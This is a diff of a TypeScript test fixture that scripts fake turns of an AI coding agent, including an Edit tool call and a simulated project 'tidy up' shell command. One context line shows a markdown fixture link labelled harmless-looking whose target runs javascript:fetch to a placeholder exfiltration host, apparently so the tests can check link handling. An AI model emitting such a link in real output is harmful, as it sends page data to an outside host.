@@ -1,5 +1,6 @@
 import type { FileChange, Interaction, InteractionAnswer, SdkTodo, Task, ToolUseBlock } from '@outrigger/host-api';
 import { tool as toolBlock } from '../../src/data/testing/fixtures.ts';
+import { binaryFile, type FakeFile, type Tree } from './fakeFiles.ts';
 import type { FakeSession } from './fakeSession.ts';
 
 /** What a scripted turn can do; every wait rejects when the turn is canceled. */
@@ -197,6 +198,39 @@ And [a harmless-looking link](javascript:fetch('http://${exfilHost}/?d='+documen
 
 export type TurnScript = (io: TurnIO, prompt: string) => Promise<void>;
 
+function writeText(
+  files: Tree,
+  path: string,
+  text: string,
+  mode: FakeFile['mode'] = files.get(path)?.mode ?? '100644',
+) {
+  files.set(path, { text, mode, binary: false });
+}
+
+/** The edit script's shell command, on the folder's files: each step does what its part of the command would. */
+function tidyUp(files: Tree): void {
+  writeText(files, 'notes/todo.md', `${files.get('notes/todo.md')?.text ?? '# To do\n\n'}- [ ] say hello\n`);
+  const build = files.get('scripts/build.sh');
+  if (build !== undefined) files.set('scripts/build.sh', { ...build, mode: '100755' });
+  const setup = files.get('docs/setup.md');
+  if (setup !== undefined) {
+    files.delete('docs/setup.md');
+    files.set('docs/install.md', setup);
+  }
+  files.delete('build.log');
+  files.set('assets/logo.png', binaryFile(`v${Date.now()}`));
+  const greet = files.get('src/greet.ts');
+  if (greet !== undefined)
+    writeText(
+      files,
+      'src/greet.ts',
+      greet.text
+        .replace('lines.push(greet(name))\n', 'lines.push(greet(name));\n')
+        .replace('lines.join("\\n")', "lines.join('\\n')")
+        .replace('defaultName = "world"\n', "defaultName = 'world';\n"),
+    );
+}
+
 /** Scripted turns keyed by a word in the prompt, like the demo model's. */
 export const turnScripts: readonly (readonly [RegExp, TurnScript])[] = [
   [/\bmarkdown\b/i, async (io) => io.stream('text', markdownAnswer, 24, 20)],
@@ -308,19 +342,21 @@ export const turnScripts: readonly (readonly [RegExp, TurnScript])[] = [
   [
     /\bedit\b/i,
     async (io) => {
+      const files = io.session.checkpoints.files;
+      const source = files.get('src/greet.ts')?.text ?? '';
+      // A second edit of the same folder finds the typo fixed and makes the greeting warmer instead.
+      const [oldText, newText] = source.includes("'Helo'")
+        ? ["export const greeting = 'Helo';", "export const greeting = 'Hello';"]
+        : ["export const greeting = 'Hello';", "export const greeting = 'Hello there';"];
       await io.stream('text', "I'll fix the greeting in `src/greet.ts`.");
       const fileChange: FileChange = {
         path: '/work/project/src/greet.ts',
         operation: 'edit',
-        edits: [{ oldText: "export const greeting = 'Helo';", newText: "export const greeting = 'Hello';" }],
+        edits: [{ oldText, newText }],
       };
       const call = io.tool(
         'Edit',
-        {
-          file_path: fileChange.path,
-          old_string: fileChange.edits[0]!.oldText,
-          new_string: fileChange.edits[0]!.newText,
-        },
+        { file_path: fileChange.path, old_string: oldText, new_string: newText },
         { callType: 'file_change', fileChange, locations: [fileChange.path] },
       );
       const answer = await approved(io, call, 'Edit');
@@ -328,20 +364,17 @@ export const turnScripts: readonly (readonly [RegExp, TurnScript])[] = [
         io.result(call, 'The user denied the edit.', { isError: true });
         return;
       }
+      const line = source.split('\n').indexOf(oldText) + 1;
+      writeText(files, 'src/greet.ts', source.replace(oldText, newText));
       const patched: FileChange = {
         ...fileChange,
         structuredPatch: [
           {
-            oldStart: 1,
+            oldStart: line,
             oldLines: 3,
-            newStart: 1,
+            newStart: line,
             newLines: 3,
-            lines: [
-              "-export const greeting = 'Helo';",
-              "+export const greeting = 'Hello';",
-              ' ',
-              ' export function greet(name: string) {',
-            ],
+            lines: [`-${oldText}`, `+${newText}`, ' ', ' export function greet(name: string) {'],
           },
         ],
       };
@@ -351,6 +384,14 @@ export const turnScripts: readonly (readonly [RegExp, TurnScript])[] = [
         tool: { ...call.tool, fileChange: patched, status: 'completed', endedAt: Date.now() },
       });
       io.result(call, 'The file /work/project/src/greet.ts has been updated.');
+      await io.sleep(300);
+      // What no Edit call shows: a command writes, moves, deletes and formats files; the checkpoints see it all.
+      const command =
+        "mkdir -p notes && echo '- [ ] say hello' >> notes/todo.md && chmod +x scripts/build.sh && git mv docs/setup.md docs/install.md && rm -f build.log && node scripts/logo.js > assets/logo.png && npx prettier --write src/greet.ts";
+      const tidy = io.tool('Bash', { command, description: 'Tidy up the project' }, { callType: 'command' });
+      await io.sleep(300);
+      tidyUp(files);
+      io.result(tidy, 'src/greet.ts 12ms');
       await io.stream('text', 'Fixed the typo.');
     },
   ],
